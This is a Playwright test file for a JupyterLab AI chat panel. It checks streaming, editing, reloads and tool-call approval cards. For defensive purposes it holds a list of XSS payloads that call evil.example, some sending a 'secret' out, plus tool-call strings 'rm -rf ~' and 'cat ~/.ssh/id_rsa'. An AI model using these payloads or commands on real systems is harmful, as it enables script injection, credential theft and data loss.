"""The chat panel in JupyterLab, as its user meets it."""

import json
import re

import pytest
from browser.panel_parts import LOAD, OPEN, answers, ask, box, button, written
from playwright.sync_api import expect

from piano_jupyter.testing import ServerReply, tool_call

PANEL = f"{LOAD}\npanel = get_ipython().run_line_magic('piano', 'panel')\npanel"
TOOLS = """
from piano_jupyter import tool

@tool(asks=True)
def delete_rows(table: str, where: str) -> str:
    "Delete rows of a table."
    return "3 rows deleted"
"""
HOSTILE = [
    "<img src=x onerror='window.pwned = 1'>",
    "<script>window.pwned = 1</script>",
    "<svg onload='window.pwned = 1'></svg>",
    "<iframe src='https://evil.example/frame'></iframe>",
    "<style>* { display: none !important }</style>",
    "<form action='https://evil.example/form'><input autofocus></form>",
    "[a](javascript:window.pwned=1) ![b](https://evil.example/?q=secret) ![c](data:text/html,x)",
    r"$\text{<img src=x onerror='window.pwned = 1'>}$ \(\href{javascript:window.pwned=1}{click}\)",
    "<math><mtext><img src=x onerror='window.pwned = 1'></mtext></math>",
    r"$\href{javascript:window.pwned=1}{a}$ $\href{https://evil.example}{b}$ $\style{position:fixed}{c}$ $5 and $6",
    r"$$\unicode{x41} \class{jp-mod-style}{d}$$ \[\require{html} \cssId{main}{e}\]",
    "<a href='https://evil.example/?q=secret' ping='//evil.example'>f</a> <link rel=prefetch href=//evil.example>",
    "<object data='https://evil.example/o'></object> <embed src='data:text/html,x'>",
    "<meta http-equiv=refresh content='0;https://evil.example/m'>",
]
MARKUP = "img, script, iframe, form, svg, input, object, embed, link, meta"
MARKUP += ", style:not(.piano-transcript > :first-child)"  # the rule that hides the live view when its kernel is gone


def test_an_answer_grows_in_the_panel_while_it_is_written(notebook, stub_model):
    pieces = ["Here *it* is.\n\nThe next ", "answer is **42**.\n\n```python\nx = 42\n```"]
    stub_model.says(ServerReply(pieces=pieces, held=True))
    nb = notebook([OPEN])
    nb.run(0)

    ask(nb, "What is the answer?")
    expect(nb.panel.locator(".piano-said").first).to_have_text("What is the answer?")
    expect(answers(nb, "writing").locator(".piano-done")).to_contain_text("The")
    expect(box(nb)).to_have_value("")
    expect(nb.panel.locator(".piano-text strong")).to_have_count(0)
    nb.panel.locator(".piano-done em").dblclick()
    stub_model.release.set()

    expect(answers(nb).locator("strong")).to_have_text("42")
    assert nb.page.evaluate("getSelection().toString()") == "it"  # what is selected stays so
    expect(answers(nb).locator("pre code span[style*=number-color]")).to_have_text("42")
    expect(button(nb, "Stop")).to_be_hidden()


def test_l7_a_frame_in_a_question_is_a_label_that_opens_to_what_was_sent(notebook, stub_model):
    stub_model.says("It is fine.", "Still.")
    frame = f"import pandas as pd\nsales = pd.DataFrame({{'item': {HOSTILE[:3]!r}, 'price': 1.5}})"
    nb = notebook([f"{frame}\n{OPEN}"])
    nb.run(0)

    ask(nb, "Look at {{sales}} again")
    label = nb.panel.locator(".piano-inserted > summary")
    expect(label).to_have_text("sales · 3 × 2")
    expect(nb.panel.locator(".piano-inserted pre")).to_be_hidden()
    label.click()
    expect(nb.panel.locator(".piano-inserted pre")).to_contain_text(f"{HOSTILE[0]},1.5")
    expect(written(nb)).to_have_text("It is fine.")
    assert f"{HOSTILE[1]},1.5" in stub_model.requests[0]["messages"][-1]["content"]
    assert nb.page.evaluate("window.pwned") is None

    button(nb, "Edit").click()
    expect(box(nb)).to_have_value("Look at {{sales}} again")
    box(nb).press("Enter")
    expect(written(nb).last).to_have_text("Still.")
    expect(label).to_have_text("sales · 3 × 2")


def test_after_a_reload_the_panel_is_complete_and_continues(notebook, stub_model):
    stub_model.says("first *answer*", ServerReply("second answer, slowly", held=True))
    nb = notebook([OPEN])
    nb.run(0)
    ask(nb, "one")
    expect(answers(nb)).to_have_count(1)
    ask(nb, "two")
    expect(answers(nb, "writing")).to_have_count(1)
    nb.save()

    nb.reload()
    expect(nb.panel.locator(".piano-said")).to_have_text(["one", "", "two", ""])
    expect(nb.panel.locator("em")).to_have_text("answer")
    expect(answers(nb, "writing").locator(".piano-text")).to_contain_text("second")
    stub_model.release.set()

    expect(written(nb).last).to_have_text("second answer, slowly")


def test_two_views_of_a_panel_show_the_same(notebook, stub_model):
    stub_model.says("to both")
    nb = notebook([PANEL, "panel"])
    nb.run(0)
    nb.run(1)
    first, second = (nb.root.locator(".piano-panel").nth(i) for i in (0, 1))

    first.get_by_role("textbox", name="Message").fill("hello")
    first.get_by_role("button", name="Send").click()

    expect(first.locator(".piano-text")).to_contain_text("to both")
    expect(second.locator(".piano-text")).to_contain_text("to both")
    assert first.locator(".piano-entries").inner_html() == second.locator(".piano-entries").inner_html()


def test_a_new_panel_in_a_new_kernel_shows_the_last_messages_and_earlier_ones_on_demand(notebook):
    nb = notebook([f"{LOAD}\n%config PianoConfig.panel_messages = 4", "%piano panel"])
    nb.run(0)
    nb.run(1)
    for i in range(3):
        ask(nb, f"question {i}")
        expect(answers(nb)).to_have_count(i + 1)

    nb.restart()
    nb.run(0)
    nb.run(1)
    expect(answers(nb)).to_have_count(2)
    button(nb, "Show earlier messages").click()

    expect(nb.panel.locator(".piano-said")).to_have_text(["question 0", "", "question 1", "", "question 2", ""])
    expect(written(nb)).to_have_text([f"You said: question {i}" for i in range(3)])
    expect(button(nb, "Show earlier messages")).to_be_hidden()


def test_the_log_follows_only_a_reader_who_is_at_its_end(notebook, stub_model):
    stub_model.says("line\n\n" * 60, ServerReply("one\n\n" + "more\n\n" * 60, held=True))
    nb = notebook([OPEN])
    nb.run(0)
    log = nb.panel.get_by_role("log")
    ask(nb, "long?")
    expect(answers(nb)).to_have_count(1)
    followed = log.evaluate("node => node.scrollHeight - node.scrollTop - node.clientHeight")
    ask(nb, "longer?")
    expect(answers(nb, "writing")).to_have_count(1)
    log.evaluate("node => { node.scrollTop = 40 }")
    stub_model.release.set()
    expect(answers(nb)).to_have_count(2)

    assert followed < 2
    assert log.evaluate("node => node.scrollTop") == 40


def test_stop_ends_the_answer_and_keeps_its_text(notebook, stub_model):
    stub_model.says(ServerReply("word after word", held=True), "and now in full")
    nb = notebook([OPEN])
    nb.run(0)
    ask(nb, "go on")
    expect(answers(nb, "writing")).to_have_count(1)

    button(nb, "Stop").click()
    expect(answers(nb, "cancelled").locator(".piano-text")).to_contain_text("word")
    nb.until(stub_model.disconnected.is_set)
    button(nb, "Retry").click()

    expect(written(nb)).to_have_text("and now in full")


def test_send_and_stop_work_while_a_cell_runs(notebook, stub_model, tmp_path):
    stub_model.says("a quick one", ServerReply("a slow one", held=True))
    go = tmp_path / "go"
    nb = notebook([OPEN, f"import time, os\nwhile not os.path.exists({str(go)!r}): time.sleep(0.02)\nprint('over')"])
    nb.run(0)
    ask(nb, "before the cell")
    expect(answers(nb)).to_have_count(1)

    nb.run(1, wait=False)
    expect(nb.cell(1).locator(".jp-InputPrompt")).to_have_text("[*]:")
    ask(nb, "while it runs")
    expect(answers(nb, "writing")).to_have_count(1)
    button(nb, "Stop").click()
    expect(answers(nb, "cancelled")).to_have_count(1)

    assert not nb.has_ended(1)
    go.touch()
    nb.wait_for(1)
    assert nb.text(1) == "over\n"


def test_enter_sends_and_shift_enter_makes_a_new_line(notebook, stub_model):
    nb = notebook([OPEN, "1"])
    nb.run(0)

    box(nb).fill("one")
    box(nb).press("Shift+Enter")
    box(nb).press_sequentially("two")
    box(nb).press("Enter")

    expect(answers(nb)).to_have_count(1)
    expect(nb.panel.locator(".piano-said").first).to_have_text(re.compile("^one\ntwo$"))
    assert stub_model.requests[-1]["messages"][-1]["content"] == "one\ntwo"
    box(nb).fill("three")
    box(nb).press("Control+Enter")
    expect(answers(nb)).to_have_count(2)
    assert nb.outputs(1) == []


def test_enter_that_ends_a_composition_does_not_send(notebook, stub_model):
    nb = notebook([OPEN])
    nb.run(0)
    box(nb).fill("にほ")

    box(nb).dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    expect(box(nb)).to_have_value("にほ")
    box(nb).fill("日本")
    box(nb).press("Enter")

    expect(answers(nb)).to_have_count(1)
    expect(nb.panel.locator(".piano-said").first).to_have_text("日本")
    assert len(stub_model.requests) == 1

    begins_the_next_one = """box => {
        box.value = "first";
        box.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
        box.dispatchEvent(new CompositionEvent("compositionstart"));
        box.value += "に";
    }"""
    box(nb).evaluate(begins_the_next_one)
    expect(answers(nb)).to_have_count(2)
    expect(box(nb)).to_have_value("firstに")  # a change would break the composition off
    box(nb).dispatch_event("compositionend")
    expect(box(nb)).to_have_value("に")


def test_plain_keys_in_the_panel_are_not_notebook_commands(notebook):
    nb = notebook([OPEN, "'another'"])
    nb.run(0)
    places = [button(nb, "Send"), nb.panel.get_by_role("log"), box(nb)]

    for place in places:
        place.focus()
        for key in ("d", "d", "x", "b", "Escape", "d", "d"):
            nb.page.keyboard.press(key)

    assert nb.sources() == [OPEN, "'another'"]
    expect(box(nb)).to_have_value("ddxbdd")

    nb.page.evaluate("path => panels[path].content.model.sharedModel.deleteCell(1)", nb.path)
    nb.page.keyboard.press("Control+z")
    expect(box(nb)).not_to_have_value("ddxbdd")
    nb.page.keyboard.press("Control+Shift+z")
    expect(box(nb)).to_have_value("ddxbdd")
    assert nb.sources() == [OPEN]


def test_a_failed_job_says_why_and_can_be_tried_again(notebook, stub_model):
    stub_model.says(ServerReply("the model is not well", status=400), "now it is")
    nb = notebook([OPEN])
    nb.run(0)
    ask(nb, "are you well?")
    expect(answers(nb, "failed").locator(".piano-note")).to_contain_text("the model is not well")

    button(nb, "Retry").click()

    expect(written(nb)).to_have_text("now it is")
    expect(answers(nb, "failed")).to_have_count(0)


@pytest.mark.parametrize(("choice", "result"), [("Approve", "3 rows deleted"), ("Deny", "the user did not allow")])
def test_e9_a_card_hides_nothing_of_a_call_and_waits_for_the_answer(notebook, stub_model, choice, result):
    where = "1 = 1 \u202eoops\u200b\x1b[2K" + " " * 3000 + "-- the tail" + "\n" * 400 + "<b>end</b>"
    stub_model.says(tool_call("delete_rows", table="t", where=where), "Finished.")
    nb = notebook(
        [LOAD + TOOLS, "await piano.update_agent('Assistant', enabled_tools=['delete_rows']);", "%piano panel"]
    )
    for i in range(3):
        nb.run(i)
    ask(nb, "clean up")
    card = nb.panel.locator(".piano-call[data-state='asks']")
    expect(card).to_contain_text("wants to run delete_rows")
    expect(card.locator(".piano-why").first).to_have_text("delete_rows asks each time")
    text = card.locator("pre").nth(1)
    expect(text).to_have_text("1 = 1 U+202EoopsU+200BU+001B[2K␣ × 3000-- the tail↵ × 400\n<b>end</b>")
    text.evaluate("node => { node.scrollTop = node.scrollHeight }")
    assert text.evaluate("node => node.scrollWidth <= node.clientWidth")

    button(nb, choice).click()

    expect(written(nb).last).to_have_text("Finished.")
    assert result in stub_model.requests[-1]["messages"][-1]["content"]
    expect(nb.panel.locator(".piano-call")).to_have_attribute("data-state", "ok" if choice == "Approve" else "denied")


def test_e9_the_last_of_400_lines_of_a_command_is_reached_by_scrolling(notebook, stub_model):
    command = "\n".join(f"echo {number}" for number in range(400)) + "\nrm -rf ~"
    stub_model.says(tool_call("delete_rows", table="t", where=command), "Finished.")
    nb = notebook(
        [LOAD + TOOLS, "await piano.update_agent('Assistant', enabled_tools=['delete_rows']);", "%piano panel"]
    )
    for i in range(3):
        nb.run(i)
    ask(nb, "clean up")
    text = nb.panel.locator(".piano-call[data-state='asks'] pre").nth(1)
    expect(text).to_contain_text("rm -rf ~")

    text.evaluate("node => { node.scrollTop = node.scrollHeight }")

    assert text.evaluate("""node => {
        const end = document.createRange();
        end.setStart(node.lastChild, node.lastChild.length - 1);
        end.setEnd(node.lastChild, node.lastChild.length);
        const [last, box] = [end.getBoundingClientRect(), node.getBoundingClientRect()];
        return last.height > 0 && last.top >= box.top && last.bottom <= box.bottom;
    }""")
    button(nb, "Deny").click()
    expect(written(nb).last).to_have_text("Finished.")


def test_a_card_is_answered_with_the_keyboard_alone_in_a_narrow_panel_too(notebook, stub_model):
    stub_model.says(tool_call("delete_rows", table="t", where="1 = 1"), "Finished.")
    nb = notebook(
        [LOAD + TOOLS, "await piano.update_agent('Assistant', enabled_tools=['delete_rows']);", "%piano panel"]
    )
    for i in range(3):
        nb.run(i)
    nb.panel.evaluate("panel => { panel.style.width = '300px' }")
    ask(nb, "clean up")
    answers_of_card = nb.panel.get_by_role("group", name="Assistant wants to run delete_rows")
    expect(answers_of_card.get_by_role("button")).to_have_text(["Deny", "Always", "Approve"])
    widths = "card => [card.querySelector('dd').clientWidth, card.clientWidth]"
    value, card = nb.panel.locator(".piano-call[data-state='asks']").evaluate(widths)

    box(nb).press("Shift+Tab")
    expect(button(nb, "Approve")).to_be_focused()
    nb.page.keyboard.press("Shift+Tab")
    nb.page.keyboard.press("Shift+Tab")
    nb.page.keyboard.press("Enter")

    expect(written(nb).last).to_have_text("Finished.")
    expect(nb.panel.locator(".piano-call")).to_have_attribute("data-state", "denied")
    assert value > 0.8 * card


def test_always_says_what_it_covers_and_the_next_such_call_has_no_card(notebook, stub_model):
    call = tool_call("delete_rows", table="t", where="1 = 1")
    stub_model.says(call, "Finished.", call, "Finished again.")
    nb = notebook(
        [LOAD + TOOLS, "await piano.update_agent('Assistant', enabled_tools=['delete_rows']);", "%piano panel"]
    )
    for i in range(3):
        nb.run(i)
    ask(nb, "clean up")
    expect(nb.panel.locator(".piano-covers")).to_contain_text("allow delete_rows")
    button(nb, "Always").click()
    expect(written(nb).last).to_have_text("Finished.")

    ask(nb, "once more")

    expect(written(nb).last).to_have_text("Finished again.")
    expect(nb.panel.locator(".piano-call[data-state='ok']")).to_have_count(2)


def test_f1_a_command_that_reads_keys_is_flagged_on_its_card(notebook, stub_model):
    stub_model.says(ServerReply("", calls=[tool_call("bash", command="cat ~/.ssh/id_rsa")]), "Finished.")
    nb = notebook(
        [
            LOAD + "\n%config PianoConfig.mode = 'full'",
            "await piano.update_agent('Assistant', enabled_tools=['bash']);",
            "%piano panel",
        ]
    )
    for i in range(3):
        nb.run(i)
    ask(nb, "clean up")

    expect(nb.panel.locator(".piano-call[data-state='asks'] .piano-flag")).to_contain_text("accesses keys")
    button(nb, "Deny").click()
    expect(written(nb).last).to_have_text("Finished.")
    expect(nb.panel.locator(".piano-call[data-state='denied'] .piano-flag")).to_contain_text("accesses keys")


def test_g1_g2_hostile_text_does_nothing_in_the_panel_in_a_cell_or_in_the_saved_notebook(notebook, stub_model):
    everything = "\n\n".join(HOSTILE)
    stub_model.says(
        ServerReply(
            everything, calls=[tool_call("<img src=x onerror='window.pwned=1'>", a=everything)], reasoning=everything
        ),
        tool_call("read_file", path=HOSTILE[0]),
        tool_call("leak"),
        everything,
        everything,
    )
    leak = f"@tool\ndef leak() -> str:\n    'Leak.'\n    return {everything!r}"
    nb = notebook(
        [
            f"{LOAD}\nfrom piano_jupyter import tool\n{leak}",
            "await piano.update_agent('Assistant', enabled_tools=['leak', 'read_file']);",
            "%piano panel",
            f"%%piano\n{everything}",
            "%piano history",
            "%piano threads",
            "%piano sql SELECT content FROM messages UNION ALL SELECT result FROM tool_results",
            "%piano search evil",
        ]
    )
    asked_for, dialogs = [], []
    nb.page.on("request", lambda request: asked_for.append(request.url))
    nb.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def looks_harmless():
        assert nb.page.evaluate("() => window.pwned") is None
        assert [url for url in asked_for if "evil" in url or url.startswith("data:text")] == []
        assert dialogs == []
        shown = nb.root.locator(".piano-log, .jp-OutputArea-output:not(:has(.piano-panel))")
        assert shown.locator(MARKUP).count() == 0
        assert shown.locator("mjx-container").count() == 0
        for href, beside in shown.locator("a").evaluate_all(
            "all => all.map(each => [each.getAttribute('href'), each.nextElementSibling?.textContent])"
        ):
            assert href.startswith("https://evil.example/")
            assert "evil.example" in beside

    for i in range(3):
        nb.run(i)
    ask(nb, everything)
    expect(answers(nb)).to_have_count(1)
    nb.panel.locator("summary:visible").first.click()
    expect(nb.panel.locator(".piano-said").first).to_be_visible()
    looks_harmless()
    for i in range(3, 8):
        nb.run(i)
        expect(nb.cell(i).locator(".jp-OutputArea-output").last).to_contain_text("evil" if i != 5 else "onerror")
    looks_harmless()
    nb.save()
    nb.end_kernel()
    nb.reload()
    expect(nb.cell(3).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
    looks_harmless()
    nb.page.evaluate("() => window.pwned = undefined")


def test_the_saved_notebook_holds_a_transcript_that_is_hidden_while_the_panel_lives(notebook, stub_model):
    stub_model.says("It is **Paris**.")
    nb = notebook([OPEN])
    nb.run(0)
    ask(nb, "The capital of France?")
    expect(answers(nb)).to_have_count(1)

    nb.until(lambda: "Paris" in json.dumps(nb.outputs(0)))
    live, static = nb.save()["cells"][0]["outputs"]

    expect(nb.root.locator(".piano-transcript")).to_be_hidden()
    assert list(live["data"]) == ["application/vnd.jupyter.widget-view+json"]
    assert "<strong>Paris</strong>" in "".join(static["data"]["text/html"])
    assert "Assistant: It is **Paris**." in "".join(static["data"]["text/plain"])


PASTE_AN_EMPTY_FILE = """box => {
    const data = new DataTransfer();
    data.items.add(new File([], "empty.txt"));
    box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
}"""


def test_a_kernel_that_does_not_answer_is_named_after_a_while_until_it_does_and_the_text_stays(notebook, stub_model):
    stub_model.says("I am.")
    nb = notebook([PANEL, "panel.on_msg(panel.receive, remove=True)", "panel.on_msg(panel.receive)"])
    nb.run(0)
    nb.run(1)
    box(nb).evaluate(PASTE_AN_EMPTY_FILE)

    ask(nb, "is anybody there?")

    expect(nb.panel.get_by_role("alert")).to_contain_text("The kernel does not answer", timeout=8_000)
    expect(box(nb)).to_have_value("is anybody there?")
    nb.run(2)
    box(nb).press_sequentially(" @")  # which asks the kernel what to suggest
    expect(nb.panel.get_by_role("alert")).to_have_text("empty.txt is empty")
    box(nb).press("Escape")
    box(nb).fill("is anybody there?")
    nb.until(lambda: box(nb).press("Enter") or answers(nb).count())  # it is repeated once it may have been lost

    assert len(stub_model.requests) == 1


LOSE_ONE = """
told = panel.send

def lose_one(content):
    if content["kind"] == "changes":
        panel.send = told
    else:
        told(content)

panel.send = lose_one
"""


def test_a_missing_message_makes_the_page_ask_for_everything(notebook, stub_model):
    stub_model.says("first", ServerReply("second one", held=True))
    nb = notebook([PANEL, LOSE_ONE])
    nb.run(0)
    ask(nb, "one")
    expect(answers(nb)).to_have_count(1)
    nb.panel.locator(".piano-cost summary").click()
    nb.run(1)

    ask(nb, "two")
    stub_model.release.set()

    expect(written(nb).last).to_have_text("second one")
    assert nb.panel.locator(".piano-cost").evaluate_all("all => all.map(({ open }) => open)") == [True, False]
    expect(nb.panel.locator(".piano-said")).to_have_text(["one", "", "two", ""])


HOLD = """
import asyncio, threading
from piano_jupyter import Piano

verbs, go = {name: getattr(Piano, name) for name in ("send_all", "edit", "regenerate")}, threading.Event()

def held(name):
    async def later(*arguments, **more):
        await asyncio.to_thread(go.wait)
        return await verbs[name](*arguments, **more)
    return later

for name in verbs:
    setattr(Piano, name, held(name))
"""
RELEASE = "go.set();"
REFUSE = """
from piano_jupyter import PianoError

async def refuse(*_, **__):
    raise PianoError("not now")

verbs = dict.fromkeys(verbs, refuse)
"""


def test_after_an_edit_the_next_message_is_a_new_one_whatever_was_typed_meanwhile(notebook, stub_model):
    stub_model.says("It is 4.", "It is 9.", "Not at all.")
    nb = notebook([PANEL, HOLD, RELEASE])
    nb.run(0)
    ask(nb, "2 + 2?")
    expect(written(nb)).to_have_text("It is 4.")
    nb.run(1)
    button(nb, "Edit").click()
    ask(nb, "3 * 3?")
    box(nb).fill("thank you")

    nb.run(2)
    expect(written(nb)).to_have_text("It is 9.")
    expect(nb.panel.locator(".piano-hint")).to_contain_text("Enter sends")
    expect(box(nb)).to_have_value("thank you")
    box(nb).press("Enter")

    expect(written(nb)).to_have_text(["It is 9.", "Not at all."])
    expect(nb.panel.locator(".piano-said")).to_have_text(["3 * 3?", "", "thank you", ""])


def test_the_reply_to_the_first_of_two_messages_keeps_the_second_in_the_box(notebook, stub_model):
    stub_model.says("one answer", "another")
    nb = notebook([PANEL, HOLD, RELEASE])
    nb.run(0)
    nb.run(1)
    ask(nb, "one")
    ask(nb, "one more")

    nb.run(2)

    expect(written(nb)).to_have_text(["one answer", "another"])
    expect(box(nb)).to_have_value("")


def test_an_answer_is_regenerated_once_unless_that_fails(notebook, stub_model):
    stub_model.says("It is 4.")
    nb = notebook([PANEL, HOLD, REFUSE, RELEASE])
    nb.run(0)
    ask(nb, "2 + 2?")
    expect(written(nb)).to_have_text("It is 4.")
    nb.run(1)
    nb.run(2)

    button(nb, "Ask again").click()
    expect(button(nb, "Ask again")).to_be_disabled()
    expect(box(nb)).to_be_focused()
    nb.run(3)

    expect(nb.panel.get_by_role("alert")).to_have_text("not now")
    expect(button(nb, "Ask again")).to_be_enabled()


def test_an_error_is_shown_as_a_sentence(notebook):
    nb = notebook([OPEN, "%unload_ext piano_jupyter"])
    nb.run(0)
    expect(nb.panel.locator(".piano-empty")).to_be_visible()
    nb.run(1)

    ask(nb, "hello?")

    expect(nb.panel.get_by_role("alert")).to_have_text("the chat of this panel was closed; run %piano panel again")
    expect(box(nb)).to_have_value("hello?")


def test_a_question_is_edited_and_an_answer_regenerated_in_place(notebook, stub_model):
    stub_model.says("It is 4.", "It is 9.", "Nine, it is.", "Both.")
    nb = notebook([OPEN])
    nb.run(0)
    ask(nb, "2 + 2?")
    expect(written(nb)).to_have_text("It is 4.")

    button(nb, "Edit").click()
    expect(box(nb)).to_have_value("2 + 2?")
    box(nb).press("Escape")
    button(nb, "Edit").click()
    box(nb).fill("3 * 3?")
    nb.shot("panel_edit")
    box(nb).press("Enter")
    expect(written(nb)).to_have_text("It is 9.")
    expect(nb.panel.locator(".piano-said").first).to_have_text("3 * 3?")
    button(nb, "Ask again").click()

    expect(written(nb)).to_have_text("Nine, it is.")
    expect(nb.panel.locator(".piano-entry")).to_have_count(2)
    assert [message["content"] for message in stub_model.requests[-1]["messages"][1:]] == ["3 * 3?"]
    ask(nb, "and?")
    expect(written(nb).last).to_have_text("Both.")
    assert [message["content"] for message in stub_model.requests[-1]["messages"][1:]] == [
        "3 * 3?",
        "Nine, it is.",
        "and?",
    ]


def test_two_agents_that_are_asked_together_answer_in_the_order_asked(notebook, stub_model):
    stub_model.answer = lambda asked: "from " + asked["messages"][0]["content"]
    nb = notebook(
        ["%load_ext piano_jupyter\n%piano agent ada --system Ada\n%piano agent bo --system Bo", "%piano panel"]
    )
    nb.run(0)
    nb.run(1)

    ask(nb, "@bo @ada hello")

    expect(written(nb)).to_have_text(["from Bo", "from Ada"])
    expect(nb.panel.locator(".piano-who")).to_have_text(["You", "bo", "ada"])


PID = "import os\nprint(os.getpid())"


def test_a_panel_in_a_new_kernel_resumes_the_jobs_of_a_killed_one(notebook, stub_model):
    stub_model.says(ServerReply("never finished", held=True))
    nb = notebook([PID, OPEN, OPEN])
    nb.run(0)
    nb.run(1)
    ask(nb, "Who was first?")
    nb.until(lambda: stub_model.requests)
    nb.kill(int(nb.text(0)))
    stub_model.reset()
    stub_model.says("Ada was.")

    nb.run(2)

    expect(written(nb)).to_have_text("Ada was.")
    expect(nb.panel.locator(".piano-said").first).to_have_text("Who was first?")
    assert len(stub_model.requests) == 1


def test_a_panel_on_a_foreign_database_says_why_its_jobs_do_not_resume(notebook, stub_model, tmp_path):
    stub_model.says(ServerReply("never finished", held=True))
    nb = notebook([f"{PID}\nos.environ['XDG_DATA_HOME'] = {str(tmp_path)!r}", OPEN, OPEN])
    nb.run(0)
    nb.run(1)
    ask(nb, "Who was first?")
    nb.until(lambda: stub_model.requests)
    nb.kill(int(nb.text(0)))
    stub_model.reset()

    nb.run(2)

    lines = nb.outputs(2)[0]["text"].splitlines()
    assert "was not made by you on this machine, so its jobs are not resumed" in " ".join(lines)
    assert max(len(line) for line in lines if "/" not in line) <= 80  # no word is broken by the cell's edge
    expect(answers(nb, "queued")).to_have_count(1)
    assert stub_model.requests == []


def test_the_title_is_that_of_the_first_question_and_a_click_renames_it(notebook, stub_model):
    stub_model.says("It is Paris.")
    nb = notebook([OPEN, "'a cell'"])
    nb.run(0)
    title = nb.panel.locator(".piano-title")
    expect(title).to_have_text("New chat")
    ask(nb, "The capital of France?")
    expect(title).to_have_text("The capital of France?")

    title.click()
    name = nb.panel.get_by_role("textbox", name="Title of this thread")
    name.fill("thrown away")
    name.press("Escape")
    expect(title).to_have_text("The capital of France?")
    title.click()
    name.fill("Capital")
    name.press("Enter")
    expect(title).to_have_text("Capital")
    expect(box(nb)).to_be_focused()
    title.click()
    name.fill("Capitals")
    nb.cell(1).locator(".cm-content").click()
    nb.page.keyboard.press("End")
    nb.page.keyboard.type(" of mine")
    expect(title).to_have_text("Capitals")
    title.click()
    name.press("Tab")
    expect(nb.panel.get_by_role("button", name="Who answers: Assistant")).to_be_focused()

    expect(title).to_have_text("Capitals")
    assert nb.sources()[1] == "'a cell' of mine"
    expect(box(nb)).to_have_value("")
    expect(nb.page.get_by_role("region", name="Chat: Capitals")).to_be_visible()
